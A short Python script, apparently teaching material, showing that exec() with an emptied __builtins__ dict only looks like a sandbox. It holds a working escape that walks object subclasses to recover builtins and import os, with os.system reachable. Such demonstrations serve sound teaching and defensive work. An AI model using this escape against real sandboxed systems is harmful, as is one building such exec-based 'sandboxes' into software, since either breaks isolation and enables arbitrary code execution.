namespace: dict = {"__builtins__": {}}       # "no builtins": looks like a sandbox

try:
    exec("open('secrets.txt')", namespace)
except NameError as exc:
    print("direct call blocked:", type(exc).__name__)

attack = """
for cls in ().__class__.__base__.__subclasses__():  # every class there is
    init = cls.__dict__.get('__init__')
    if init.__class__.__name__ == 'function':       # one written in Python
        found = init.__globals__['__builtins__']     # ...carries its module's builtins
        break
if found.__class__ is {}.__class__:
    imp = found['__import__']
else:
    imp = found.__import__
os_module = imp('os')
"""
exec(attack, namespace)
print("attacker reached os:", namespace["os_module"].__name__ == "os")
print("os.system is callable:", callable(namespace["os_module"].system))
